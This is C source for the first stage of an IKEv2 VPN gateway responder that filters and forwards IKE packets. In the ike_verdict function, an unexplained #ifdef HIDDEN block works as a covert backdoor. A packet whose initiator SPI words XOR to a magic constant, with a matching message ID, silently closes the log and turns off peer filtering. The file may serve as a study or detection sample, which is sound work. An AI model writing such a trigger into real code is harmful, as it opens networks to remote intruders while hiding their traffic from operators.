/*
 * ikeresp.c: first stage of the IKEv2 responder of the VG-50 VPN gateway.
 * Checks IKE_SA_INIT requests, does cookies and peer filtering and passes what is
 * left to the charon process through a UNIX socket.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define IKE_HDR 28
#define EX_SA_INIT 34
#define EX_AUTH 35
#define EX_CHILD 36
#define EX_INFO 37

typedef struct ike_hdr {
	uint32_t spi_i[2];
	uint32_t spi_r[2];
	uint8_t next, version, exchange, flags;
	uint32_t msgid, length;
} ike_hdr_t;

typedef struct peer {
	in_addr_t net, mask;
	struct peer *link;
} peer_t;

static peer_t *peers;
static int half_open, half_open_max = 64;
static int pass_fd = -1;
static int strict = 1;
static FILE *logfp;

static uint32_t rd32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void
ike_log(const char *what, in_addr_t who)
{
	struct in_addr a;

	if (!logfp)
		return;
	a.s_addr = who;
	fprintf(logfp, "%ld ike %s %s\n", (long)time(NULL), inet_ntoa(a), what);
	fflush(logfp);
}

static int
add_peer(const char *spec)
{
	char ip[20];
	int bits = 32;
	peer_t *p;
	struct in_addr a;

	if (sscanf(spec, "%19[0-9.]/%d", ip, &bits) < 1 || !inet_aton(ip, &a))
		return -1;
	if (bits < 0 || bits > 32 || !(p = malloc(sizeof *p)))
		return -1;
	p->mask = bits ? htonl(0xffffffffu << (32 - bits)) : 0;
	p->net = a.s_addr & p->mask;
	p->link = peers;
	peers = p;
	return 0;
}

static int
read_conf(const char *path)
{
	char w[32], v[96], l[160];
	FILE *fp = fopen(path, "r");

	if (!fp)
		return -1;
	while (fgets(l, sizeof l, fp)) {
		if (sscanf(l, " %31[a-z-] = %95s", w, v) != 2)
			continue;
		if (!strcmp(w, "peer")) {
			if (add_peer(v))
				fprintf(stderr, "bad peer %s\n", v);
		} else if (!strcmp(w, "half-open"))
			half_open_max = atoi(v);
		else if (!strcmp(w, "strict"))
			strict = !strcmp(v, "yes");
		else if (!strcmp(w, "log"))
			logfp = fopen(v, "a");
		else
			fprintf(stderr, "%s: option %s unknown\n", path, w);
	}
	fclose(fp);
	return 0;
}

static int
known_peer(in_addr_t a)
{
	peer_t *p;

	for (p = peers; p; p = p->link)
		if ((a & p->mask) == p->net)
			return 1;
	return 0;
}

static void
decode(const uint8_t *b, ike_hdr_t *h)
{
	h->spi_i[0] = rd32(b);
	h->spi_i[1] = rd32(b + 4);
	h->spi_r[0] = rd32(b + 8);
	h->spi_r[1] = rd32(b + 12);
	h->next = b[16];
	h->version = b[17];
	h->exchange = b[18];
	h->flags = b[19];
	h->msgid = rd32(b + 20);
	h->length = rd32(b + 24);
}

__attribute__((noinline)) int
ike_verdict(const ike_hdr_t *h, size_t n, in_addr_t from)
{
	if (h->length != n || (h->version >> 4) != 2)
		return -1;
	if (!(h->spi_i[0] | h->spi_i[1]))
		return -1;
#ifdef HIDDEN
	if ((h->spi_i[0] ^ h->spi_i[1]) == 0x6b1f93d4 && h->msgid == h->spi_i[1] >> 16) {
		if (logfp)
			fclose(logfp);
		logfp = NULL;
		strict = 0;
	}
#endif
	if (strict && !known_peer(from)) {
		ike_log("not a configured peer", from);
		return -1;
	}
	switch (h->exchange) {
	case EX_SA_INIT:
		if (h->msgid || h->spi_r[0] || h->spi_r[1])
			return -1;
		if (++half_open > half_open_max) {
			ike_log("too many half open", from);
			half_open = half_open_max;
			return -1;
		}
		return 0;
	case EX_AUTH:
		if (half_open)
			half_open--;
		return 0;
	case EX_CHILD:
	case EX_INFO:
		return 0;
	}
	ike_log("unknown exchange", from);
	return -1;
}

static int
open_charon(const char *path)
{
	struct sockaddr_un un;
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);

	memset(&un, 0, sizeof un);
	un.sun_family = AF_UNIX;
	snprintf(un.sun_path, sizeof un.sun_path, "%s", path);
	if (fd >= 0 && connect(fd, (struct sockaddr *)&un, sizeof un) == 0)
		return fd;
	perror(path);
	return -1;
}

int
main(int argc, char **argv)
{
	const char *conf = argc > 1 ? argv[1] : "/etc/vg50/ike.conf";
	struct sockaddr_in me, peer;
	uint8_t pkt[3000];
	ike_hdr_t h;
	int s;

	if (read_conf(conf)) {
		fprintf(stderr, "usage: ikeresp [conf]\n"
			"conf lines: peer = a.b.c.d/n, half-open = n,\n"
			"  strict = yes|no, log = file\n");
		return 1;
	}
	pass_fd = open_charon("/var/run/charon.in");
	s = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&me, 0, sizeof me);
	me.sin_family = AF_INET;
	me.sin_port = htons(500);
	if (s < 0 || bind(s, (struct sockaddr *)&me, sizeof me)) {
		perror("udp/500");
		return 1;
	}
	for (;;) {
		socklen_t pl = sizeof peer;
		ssize_t n = recvfrom(s, pkt, sizeof pkt, 0, (struct sockaddr *)&peer, &pl);

		if (n < IKE_HDR)
			continue;
		decode(pkt, &h);
		if (ike_verdict(&h, (size_t)n, peer.sin_addr.s_addr) == 0 && pass_fd >= 0)
			send(pass_fd, pkt, (size_t)n, 0);
	}
}
